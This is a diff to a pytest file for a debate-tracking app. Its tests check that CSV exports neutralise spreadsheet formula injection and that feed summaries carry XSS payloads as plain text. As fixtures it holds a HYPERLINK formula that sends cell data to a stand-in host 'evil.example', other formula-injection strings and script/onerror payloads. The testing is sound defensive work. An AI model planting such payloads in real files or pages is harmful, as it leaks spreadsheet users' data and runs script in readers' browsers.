@@ -85,7 +85,7 @@ def test_the_debate_csv_has_a_row_per_evidence_and_defuses_formulas(client, worl
     later = next(row for row in rows if row["summary"] == "LATER")
     assert later["attribution_chain"].endswith("citing Financial Times, citing four NATO officials")
     assert later["quote"].startswith("'=HYPERLINK")
-    assert later["stance"] == "+1"
+    assert later["stance"] == "1"
 
 
 def test_the_json_exports_nest_evidence_and_hold_no_drafts(client, world):
@@ -248,3 +248,35 @@ def test_feed_summaries_reach_readers_as_text_not_markup(client, world, url):
     summaries = [entry.summary for entry in parsed.entries]
     assert "<script>alert(1)</script> & more (Retracted: <img src=x onerror=alert(2)>)" in summaries
     assert {entry.summary_detail.type for entry in parsed.entries} == {"text/plain"}
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@pytest.mark.parametrize("url", ["/export/debates/airspace.csv", "/export/positions.csv"])
+def test_every_text_cell_of_the_csv_is_defused_and_numbers_stay_numbers(client, world, url):
+    debate, _ = world
+    actor = f.ActorFactory(name=FORMULA, slug="formula", country="")
+    proposal = f.ProposalFactory(debate=debate, title="+SUM(1,1)", slug="plus", rung=3)
+    f.PositionFactory(
+        debate=debate, actor=actor, proposal=proposal, support="support", stance=-1,
+        summary="-2+3", status="retracted", retracted_at=timezone.now(),
+        retraction_reason="@SUM(A1:A9)",
+    )  # fmt: skip
+    f.PositionFactory(debate=debate, actor=actor, stance=-2, summary="\t=1+1")
+    f.PositionFactory(debate=debate, actor=actor, stance=0, summary="\r=1+1")
+    rows = [
+        row
+        for row in csv.DictReader(io.StringIO(client.get(url).content.decode()))
+        if row["actor"] != "Estonia"
+    ]
+    assert len(rows) == 3
+    retracted = next(row for row in rows if row["proposal"])
+    assert retracted["actor"] == "'" + FORMULA
+    assert retracted["proposal"] == "'+SUM(1,1)"
+    assert retracted["summary"] == "'-2+3"
+    assert retracted["retraction_reason"] == "'@SUM(A1:A9)"
+    assert retracted["stance"] == "-1"
+    assert retracted["proposal_rung"] == "3"
+    assert sorted(row["summary"] for row in rows) == ["'\t=1+1", "'\r=1+1", "'-2+3"]
+    assert sorted(row["stance"] for row in rows) == ["-1", "-2", "0"]
